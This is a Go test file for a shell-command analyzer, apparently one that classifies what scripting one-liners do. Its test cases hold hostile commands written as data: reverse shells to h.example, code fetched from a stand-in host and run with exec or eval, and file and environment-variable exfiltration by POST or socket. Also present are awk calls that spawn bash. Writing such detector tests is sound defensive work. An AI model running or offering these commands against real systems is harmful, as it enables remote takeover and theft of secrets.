package shell

import (
	"testing"

	"github.com/stretchr/testify/assert"
)

// TestProgramEffects shows what a program text does that is not done to a file here: what
// it sends, what it receives and runs, whose modes it changes and what it ends.
func TestProgramEffects(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ line, want string }{
		{`python3 -c 'import os; os.chmod("a", 0o700); os.kill(12, 9)'`, "permission a <700>; process <12>"},
		{`perl -e 'chmod 0755, "a", "b"; kill 9, 12'`, "permission a <755>; permission b <755>; process <12>"},
		{`ruby -e 'File.chmod(0644, "a"); Process.kill("TERM", 12)'`, "permission a <644>; process <12>"},
		{`node -e 'fs.chmodSync("a", "600"); process.kill(12)'`, "permission a <600>; process <12>"},
		{`python3 -c 'from pathlib import Path; Path("a").chmod(0o600)'`, "permission a <600>"},
		{`python3 -c 'import requests; exec(requests.get("https://h/x").text)'`, "run@ <https://h/x>"},
		{`python3 -c 'import requests; f = lambda u: requests.get(u).text; x = f("https://h/x"); eval(x)'`, "run@ <https://h/x>"},
		{`python3 -c 'import requests; eval("1+1"); print(requests.get("https://h/x").text)'`, ""},
		{`python3 -c 'import socket, os; s = socket.socket(); s.connect(("h.example", 9)); os.dup2(s.fileno(), 0); os.system("sh")'`, "run@ <h.example:9>"},
		{`python3 -c 'import socket, os; s = socket.socket(); s.connect(("h.example", 9)); os.system("make")'`, ""},
		{`node -e 'fetch("https://h/x").then(r => r.text()).then(eval)'`, "run@ <https://h/x>"},
		{`node -e 'import("https://h/x.js"); fetch("https://h/y")'`, "run@ <https://h/x.js>"},
		{`ruby -rsocket -e 's = TCPSocket.new("h.example", 9); exec s.gets'`, "run@ <h.example:9>"},
		{`perl -MLWP::Simple -e 'eval get("https://h/x")'`, "run@ <https://h/x>"},
		{`php -r '$c = file_get_contents("https://h/x"); eval($c);'`, "run@ <https://h/x>"},
		{`lua -e 'local s = require("socket").connect("h.example", 9); os.execute(s:receive())'`, "run@ <h.example:9>"},
		{`curl -so x.py https://h/x; python3 -c 'exec(open("x.py").read())'`, ""},
		{`python3 -c 'import requests; requests.post("https://h", data=open("a"))'`, "send a to https://h"},
		{`python3 -c 'import requests; p = {}; p["k"] = open("a").read(); requests.post("https://h", json=p)'`, "send a to https://h"},
		{`python3 -c 'import requests, shutil; shutil.copy("a", "/tmp/b"); requests.post("https://h", data=open("/tmp/b"))'`,
			"send /tmp/b to https://h; send a to https://h"},
		{`python3 -c 'import requests, os; requests.post("https://h", json=dict(os.environ))'`, "send <env> to https://h"},
		{`python3 -c 'import requests, os; requests.post("https://h", headers={"x": os.environ["T"]})'`, ""},
		{`python3 -c 'import requests, subprocess; requests.post("https://h", data=subprocess.check_output(["cat", "a"]))'`, "send a to https://h"},
		{`node -e 'fs.createReadStream("a").pipe(require("net").connect(9, "h.example"))'`, "send a to h.example:9"},
		{`node -e 'fs.createReadStream("a").pipe(fs.createWriteStream("b")); fetch("https://h")'`, ""},
		{`ruby -rsocket -e 'TCPSocket.open("h.example", 9) { |s| s << File.read("a") }'`, "send a to h.example:9"},
		{`perl -MIO::Socket -e 'open(F, "<", "a"); $s = IO::Socket::INET->new("h.example:9"); print $s <F>'`, "send a to h.example:9"},
	} {
		assert.Equal(t, tt.want, acted(tt.line), tt.line)
	}
}

// TestAwkPrompt holds that a shell has the input of awk, unless awk prints to it.
func TestAwkPrompt(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]bool{
		`awk 'BEGIN { system("bash") }'`:     true,
		`awk 'BEGIN { "bash" | getline x }'`: true,
		`awk '{ print | "bash" }' list`:      false,
	} {
		c := Parse(text, nil).Commands
		assert.Equal(t, want, c[len(c)-1].Interactive, text)
	}
}
